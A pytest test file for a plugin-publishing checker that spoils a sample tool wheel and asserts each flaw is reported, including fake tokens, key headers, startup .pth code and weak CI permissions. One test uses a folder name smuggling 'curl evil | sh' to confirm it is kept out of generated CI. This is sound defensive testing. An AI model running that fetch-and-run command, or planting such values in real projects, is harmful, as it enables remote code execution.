"""What is between a project and an index: a sound project has nothing, and each spoiled one what is spoiled."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from strands_cli.errors import InvalidInput
from strands_cli.plugins.publish import PublishCheck, check_publishable, make_ci_file, read_source
from strands_cli.plugins.publish import classifier_topic as classifiers
from strands_cli.plugins.scaffold import PURPOSE
from tests.distributions.wheels import make_wheel
from tests.wordings import Wording
from tests.yaml_texts import read_yaml

# They make wheels, indexes or keys.
pytestmark = pytest.mark.wheels

NAME, PACKAGE = "strands-tool-shout", "strands_tool_shout"
PROJECT = f"""\
[build-system]
requires = ["hatchling>=1.27"]
build-backend = "hatchling.build"

[project]
name = "{NAME}"
version = "1.0"
description = "Return a text in capitals: a tool for Strands agents"
readme = "README.md"
requires-python = ">=3.11"
license = "Apache-2.0"
license-files = ["LICENSE"]
authors = [{{ name = "Jo Doe" }}]
classifiers = ["Programming Language :: Python :: 3", "Typing :: Typed"]
dependencies = ["strands-tool-kit>=0.1,<0.2"]

[project.urls]
Source = "https://example.com/jo/shout"

[project.entry-points."strands_cli.tools"]
shout = "{PACKAGE}.shout"
"""
METADATA = f"""\
Metadata-Version: 2.4
Name: {NAME}
Version: 1.0
Summary: Return a text in capitals: a tool for Strands agents
Project-URL: Source, https://example.com/jo/shout
Author: Jo Doe
License-Expression: Apache-2.0
License-File: LICENSE
Classifier: Programming Language :: Python :: 3
Classifier: Typing :: Typed
Requires-Python: >=3.11
Requires-Dist: strands-tool-kit<0.2,>=0.1
Description-Content-Type: text/markdown

# strands-tool-shout

Return a text in capitals. [Its source](https://example.com/jo/shout).
"""
SPEC = {
    "name": "shout",
    "description": "Return a text in capitals.",
    "inputSchema": {
        "json": {
            "type": "object",
            "properties": {"text": {"type": "string", "description": "The text.", "maxLength": 1000}},
            "required": ["text"],
            "additionalProperties": False,
        }
    },
    "outputSchema": {"json": {"type": "object", "properties": {}}},
    "annotations": {"readOnlyHint": True, "destructiveHint": False, "idempotentHint": True, "openWorldHint": False},
    "strands_cli": {
        "capabilities": {"network": [], "filesystem": [], "subprocess": False, "env": [], "secrets": []},
        "timeout_s": 10,
        "max_output_bytes": 16_384,
    },
}
MODULE = f"TOOL_SPEC = {SPEC!r}\n\n\ndef shout(tool, **kwargs):\n    return {{}}\n"
CI = """\
jobs:
  publish:
    permissions: {id-token: write}
    steps:
      - uses: pypa/gh-action-pypi-publish@v1.13.0
"""
INFO = f"{PACKAGE}-1.0.dist-info"


@dataclasses.dataclass
class Project:
    """A project that is ready to be published, and the parts of its wheel, to be spoiled."""

    root: Path
    text: str = PROJECT
    metadata: str = METADATA
    files: dict[str, str | bytes] = dataclasses.field(default_factory=dict)
    entry_points: str = f"[strands_cli.tools]\nshout = {PACKAGE}.shout\n"
    ci: str = CI

    def check(self) -> PublishCheck:
        package = self.root / "src" / PACKAGE
        package.mkdir(parents=True)
        document = {
            "manifest_version": 1,
            "api": {"min": 1, "max": 1},
            "distribution": NAME,
            "tools": [
                {
                    "name": "shout",
                    "entry": f"{PACKAGE}.shout",
                    "kind": "module",
                    "description": SPEC["description"],
                    "input_schema": SPEC["inputSchema"]["json"],  # type: ignore[index]
                    "output_schema": SPEC["outputSchema"]["json"],  # type: ignore[index]
                    "annotations": SPEC["annotations"],
                    "strands_cli": SPEC["strands_cli"],
                    "examples": [{"input": {"text": "hi"}}],
                }
            ],
        }
        own: dict[str, str | bytes] = {
            "__init__.py": "",
            "shout.py": MODULE,
            "py.typed": "",
            "strands_tools.json": json.dumps(document),
        }
        for name, text in own.items():
            (package / name).write_bytes(text if isinstance(text, bytes) else text.encode())
        (self.root / "pyproject.toml").write_text(self.text, encoding="utf-8")
        if self.ci:
            folder = self.root / ".github" / "workflows"
            folder.mkdir(parents=True)
            (folder / "publish.yml").write_text(self.ci, encoding="utf-8")
        (self.root / ".git").mkdir()
        in_wheel = {f"{PACKAGE}/{name}": text for name, text in own.items()}
        in_wheel |= {f"{INFO}/licenses/LICENSE": "Apache", **self.files}
        wheel = make_wheel(
            self.root / "dist",
            NAME,
            "1.0",
            self.entry_points,
            {name: text for name, text in in_wheel.items() if text is not None},
        )
        return check_publishable(read_source(self.root), rewritten(wheel, {f"{INFO}/METADATA": self.metadata}))


def rewritten(wheel: Path, files: dict[str, str]) -> Path:
    """Return a copy of a wheel with other texts in place of its own."""
    import zipfile

    other = wheel.parent / "other" / wheel.name
    other.parent.mkdir()
    with zipfile.ZipFile(wheel) as old, zipfile.ZipFile(other, "w") as new:
        for member in old.infolist():
            new.writestr(member.filename, files.get(member.filename) or old.read(member))
    return other


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path / "shout")


def found(done: PublishCheck) -> dict[str, list[str]]:
    """Return the codes of each topic that has findings."""
    return {
        topic.name: [f"{one.severity} {one.code}" for one in topic.findings] for topic in done.topics if topic.findings
    }


def test_a_sound_project_has_nothing_between_it_and_an_index(project: Project) -> None:
    done = project.check()
    assert found(done) == {}
    assert (done.distribution, done.version) == (NAME, "1.0")
    assert done.members == {"tool": ("shout",)}


def drop(line: str) -> Callable[[Project], None]:
    def spoil(project: Project) -> None:
        assert line in project.metadata
        project.metadata = "".join(one for one in project.metadata.splitlines(True) if not one.startswith(line))

    return spoil


def swap(old: str, new: str, where: str = "metadata") -> Callable[[Project], None]:
    def spoil(project: Project) -> None:
        assert old in getattr(project, where)
        setattr(project, where, getattr(project, where).replace(old, new))

    return spoil


def add(name: str, text: str | bytes) -> Callable[[Project], None]:
    return lambda project: project.files.update({name: text})


TOKEN = "ghp_" + "a1B2" * 9
SPOILED: dict[str, tuple[Callable[[Project], None], dict[str, list[str]]]] = {
    "a name of another": (swap(f"Name: {NAME}", "Name: strands-tool-calculator"), {"name": ["error publish-name"]}),
    "a name like another's": (
        swap(f"Name: {NAME}", "Name: strands-tool-calculater"),
        {"name": ["warning publish-name"]},
    ),
    "a name of Python's": (swap(f"Name: {NAME}", "Name: json"), {"name": ["error publish-name"]}),
    "an invalid name": (swap(f"Name: {NAME}", "Name: _shout"), {"name": ["error publish-name"]}),
    "a local version": (swap("Version: 1.0", "Version: 1.0+here"), {"version": ["error publish-metadata"]}),
    "no version at all": (swap("Version: 1.0", "Version: soon"), {"version": ["error publish-metadata"]}),
    "no summary": (drop("Summary"), {"summary": ["error publish-metadata"]}),
    "the summary of the template": (
        swap("Return a text in capitals: a", f"{PURPOSE[:-1]}: a"),
        {"summary": ["warning publish-metadata"]},
    ),
    "no readme": (swap(METADATA.partition("\n\n")[2], ""), {"readme": ["error publish-readme"]}),
    "an empty page": (
        swap(METADATA.partition("\n\n")[2], "<!-- soon -->\n"),
        {"readme": ["error publish-readme", "warning publish-readme"]},
    ),
    "a relative link": (
        swap("(https://example.com/jo/shout)", "(docs/more.md)"),
        {"readme": ["warning publish-readme"]},
    ),
    "a readme of no type": (drop("Description-Content-Type"), {"readme": ["warning publish-readme"]}),
    "a readme as HTML": (swap("text/markdown", "text/html"), {"readme": ["error publish-readme"]}),
    "a spoken licence": (
        swap("License-Expression: Apache-2.0", "License-Expression: Apache 2.0"),
        {"licence": ["error publish-licence"]},
    ),
    "two licences": (
        swap("Classifier: Typing", "Classifier: License :: OSI Approved :: MIT License\nClassifier: Typing"),
        {"licence": ["error publish-licence"]},
    ),
    "an unknown classifier": (swap("Typing :: Typed", "Typing :: Typd"), {"classifiers": ["error publish-classifier"]}),
    "a deprecated classifier": (
        swap("Typing :: Typed", "Natural Language :: Ukranian"),
        {"classifiers": ["error publish-classifier"]},
    ),
    "a private classifier": (
        swap("Typing :: Typed", "Private :: Do Not Upload"),
        {"classifiers": ["error publish-classifier"]},
    ),
    "a Python that is not admitted": (
        swap("Typing :: Typed", "Programming Language :: Python :: 3.9"),
        {"classifiers": ["warning publish-classifier"]},
    ),
    "no classifiers": (drop("Classifier"), {"classifiers": ["warning publish-classifier"]}),
    "any Python": (drop("Requires-Python"), {"python": ["warning publish-metadata"]}),
    "no such Python": (swap(">=3.11", "3.11 or newer"), {"python": ["error publish-metadata"]}),
    "a requirement by address": (
        swap("strands-tool-kit<0.2,>=0.1", "strands-tool-kit @ https://example.com/kit.whl"),
        {"dependencies": ["error publish-metadata"]},
    ),
    "no link to the source": (
        swap("Project-URL: Source", "Project-URL: News"),
        {"links": ["warning publish-metadata"]},
    ),
    "a link without TLS": (
        swap("Project-URL: Source, https:", "Project-URL: Source, http:"),
        {"links": ["warning publish-metadata"]},
    ),
    "a module that is not packaged": (
        swap(".shout", ".whisper", "entry_points"),
        {"wheel": ["error wheel-contents"]},
    ),
    "an older wheel": (
        swap("strands_cli.tools", "other.tools", "entry_points"),
        {"plugin check": ["warning no-plugin"], "wheel": ["error wheel-contents"]},
    ),
    "tests beside the package": (add("tests/__init__.py", ""), {"wheel": ["error wheel-contents"]}),
    "tests in the package": (add(f"{PACKAGE}/tests/test_it.py", ""), {"wheel": ["warning wheel-contents"]}),
    "another package": (add("more/__init__.py", ""), {"wheel": ["warning wheel-contents"]}),
    "bytecode": (add(f"{PACKAGE}/__pycache__/a.pyc", b""), {"wheel": ["warning wheel-contents"]}),
    "code at every start": (add("shout.pth", "import os"), {"wheel": ["error wheel-contents"]}),
    "a file for credentials": (add(f"{PACKAGE}/.env", "A=1"), {"secrets": ["error secret-in-wheel"]}),
    "a private key": (
        add(f"{PACKAGE}/own.pem", "-----BEGIN RSA PRIVATE KEY-----\n"),
        {"secrets": ["error secret-in-wheel"]},
    ),
    "a token in code": (
        add(f"{PACKAGE}/client.py", f"\n\nTOKEN = '{TOKEN}'\n"),
        {"secrets": ["error secret-in-wheel"]},
    ),
    "no CI file": (swap(CI, "", "ci"), {"attestations": ["warning not-attested"]}),
    "another CI file": (swap("gh-action-pypi-publish", "another", "ci"), {"attestations": ["warning not-attested"]}),
    "CI that is not YAML": (swap(CI, "jobs: [", "ci"), {"attestations": ["warning not-attested"]}),
    "no identity": (swap("id-token: write", "contents: read", "ci"), {"attestations": ["warning not-attested"]}),
    "a password": (
        swap("v1.13.0", "v1.13.0\n        with: {password: x}", "ci"),
        {"attestations": ["warning not-attested"]},
    ),
    "no attestations": (
        swap("v1.13.0", "v1.13.0\n        with: {attestations: false}", "ci"),
        {"attestations": ["warning not-attested"]},
    ),
    "before attestations": (swap("v1.13.0", "v1.10.3", "ci"), {"attestations": ["warning not-attested"]}),
}


@pytest.mark.parametrize("case", SPOILED)
def test_what_is_spoiled_is_found_and_nothing_else(case: str, project: Project, wording: Wording) -> None:
    spoil, expected = SPOILED[case]
    spoil(project)
    done = project.check()
    assert found(done) == expected
    wording([f"{one.message} | {one.fix}" for one in done.findings])


def test_a_key_is_never_shown_and_its_line_is(project: Project) -> None:
    add(f"{PACKAGE}/client.py", f"\n\nTOKEN = '{TOKEN}'\n")(project)
    done = project.check()
    (finding,) = done.findings
    assert TOKEN not in str(finding)
    assert finding.where
    assert finding.where.file.endswith(f"{PACKAGE}/client.py")
    assert finding.where.line == 3


def test_findings_name_the_line_of_the_field(project: Project) -> None:
    drop("Requires-Python")(project)
    swap("Typing :: Typed", "Typing :: Typd")(project)
    lines = PROJECT.splitlines()
    for finding in project.check().findings:
        assert finding.where
        assert finding.where.line
        assert lines[finding.where.line - 1].startswith(("requires-python", "classifiers"))


def test_a_manifest_that_differs_from_the_code_blocks(project: Project) -> None:
    project.check()
    module = project.root / "src" / PACKAGE / "shout.py"
    module.write_text(MODULE.replace("in capitals.", "in small letters."), encoding="utf-8")
    (wheel,) = project.root.glob("dist/other/*.whl")
    assert found(check_publishable(read_source(project.root), wheel)) == {"manifest": ["error manifest-drift"]}


def test_without_the_list_classifiers_are_not_called_valid(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(classifiers, "known_classifiers", lambda: None)
    done = project.check()
    assert found(done) == {"classifiers": ["warning publish-classifier"]}
    assert done.findings[0].fix == "python -m pip install 'strands-cli[publish]'"


@pytest.mark.parametrize(
    ("kind", "value", "path"),
    [
        ("hook plugin", PACKAGE, f"{PACKAGE}/__init__.py"),
        ("workflow", f"{PACKAGE}:workflows", f"{PACKAGE}/workflows/triage.yaml"),
        ("agent", f"{PACKAGE}:agents/small", f"{PACKAGE}/agents/small/clerk.yaml"),
        ("skill", f"{PACKAGE}:skills", f"{PACKAGE}/skills/minutes/SKILL.md"),
    ],
)
def test_hook_plugins_and_packaged_folders_are_looked_for_too(
    project: Project, kind: str, value: str, path: str
) -> None:
    group = f"strands_cli.{kind.split()[0]}s"
    project.text = PROJECT.replace("strands_cli.tools", group).replace(f"{PACKAGE}.shout", value)
    project.entry_points = f"[{group}]\nshout = {value}\n"
    project.files[path] = "# x\n"
    done = project.check()
    assert "wheel" not in found(done)
    assert done.members == {kind: ("shout",)}


@pytest.mark.parametrize("value", [f"{PACKAGE}:absent", f"{PACKAGE}:../up", f"{PACKAGE}:/etc"])
def test_a_packaged_folder_that_is_absent_or_elsewhere_blocks(project: Project, value: str) -> None:
    project.text = PROJECT.replace("strands_cli.tools", "strands_cli.workflows").replace(f"{PACKAGE}.shout", value)
    project.entry_points = f"[strands_cli.workflows]\nshout = {value}\n"
    assert found(project.check())["wheel"] == ["error wheel-contents"]


@pytest.mark.parametrize("raw", [b"", b"PK\x03\x04 no zip", b"x" * 1000])
def test_a_damaged_wheel_is_reported_and_the_project_is_still_checked(project: Project, raw: bytes) -> None:
    project.check()
    file = project.root / "spoiled.whl"
    file.write_bytes(raw)
    assert found(check_publishable(read_source(project.root), file)) == {
        "readme": ["error publish-readme"],
        "wheel": ["error wheel-not-built"],
    }


@pytest.mark.parametrize("text", [None, "[project", "x" * 1_000_001], ids=["absent", "not TOML", "huge"])
def test_a_folder_without_a_project_is_refused(tmp_path: Path, text: str | None) -> None:
    if text is not None:
        (tmp_path / "pyproject.toml").write_text(text)
    with pytest.raises(InvalidInput) as refused:
        read_source(tmp_path)
    assert [finding.code for finding in refused.value.findings] == ["not-a-project"]


def test_the_file_for_ci_has_the_least_rights_and_publishes_what_it_has_checked(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text('[remote "origin"]\n\turl = git@github.com:jo/shout.git\n')
    made = make_ci_file(tmp_path, NAME)
    assert (made.path, made.repository, made.root) == (".github/workflows/publish.yml", "jo/shout", tmp_path)
    document = read_yaml(made.text)
    build, publish = document["jobs"]["build"], document["jobs"]["publish"]
    assert (document["permissions"], build["permissions"], publish["permissions"]) == (
        {},
        {"contents": "read"},
        {"id-token": "write"},
    )
    used = [step["uses"] for job in (build, publish) for step in job["steps"] if "uses" in step]
    assert all(action.partition("@")[2].count(".") == 2 for action in used), "exact releases"
    assert "${{" not in made.text
    assert "strands plugin publish --check ." in [step.get("run") for step in build["steps"]]


def test_a_project_in_a_folder_of_a_repository_has_tags_and_a_file_of_its_own(tmp_path: Path) -> None:
    folder = tmp_path / "packages" / NAME
    folder.mkdir(parents=True)
    (tmp_path / ".git").mkdir()
    made = make_ci_file(folder, NAME)
    assert (made.path, made.root) == (f".github/workflows/publish-{NAME}.yml", tmp_path)
    document = read_yaml(made.text)
    assert document[True]["push"]["tags"] == [f"{NAME}-v*"], "YAML 1.1 reads `on` as true"
    assert f"python -m build --outdir dist packages/{NAME}" in made.text


def test_a_folder_whose_name_is_a_command_is_not_written_into_ci(tmp_path: Path) -> None:
    folder = tmp_path / "a; curl evil | sh"
    folder.mkdir()
    (tmp_path / ".git").mkdir()
    assert "curl" not in make_ci_file(folder, NAME).text


def test_the_file_for_ci_is_one_that_the_check_accepts(project: Project) -> None:
    project.ci = make_ci_file(project.root, NAME).text
    assert found(project.check()) == {}
